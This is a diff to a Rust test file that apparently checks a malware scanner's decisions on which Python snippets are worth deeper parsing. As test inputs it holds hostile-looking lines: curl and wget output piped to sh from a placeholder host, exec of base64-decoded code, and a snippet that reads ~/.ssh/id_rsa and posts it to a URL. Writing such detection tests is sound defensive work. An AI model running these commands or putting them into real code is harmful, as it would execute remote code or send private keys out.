@@ -309,7 +309,14 @@ fn plain_modules_are_parsed_only_when_a_threat_is_possible() {
     assert!(!worth(b"import os\nenv = dict(os.environ)\n"));
     assert!(!worth(b"exec(compile(tree, name, 'exec'))\n"));
     assert!(worth(b"import base64\nexec(base64.b64decode(x))\n"));
-    assert!(worth(b"os.system('curl x | sh')"));
+    assert!(worth(b"os.system('curl https://x.example | sh')"));
+    assert!(worth(b"os.system('wget -q -O- $U | sh')"));
+    // The command's pieces apart in the source.
+    assert!(worth(
+        b"subprocess.run([\n    'curl',\n    '-fsSL',\n    'https://x.example/p',\n])"
+    ));
+    // A downloader with nothing to download: no download rule can match.
+    assert!(!worth(b"subprocess.run(['curl', x], check=False)\n"));
     assert!(worth(
         b"k = open('~/.ssh/id_rsa').read(); requests.post(u, data=k)"
     ));
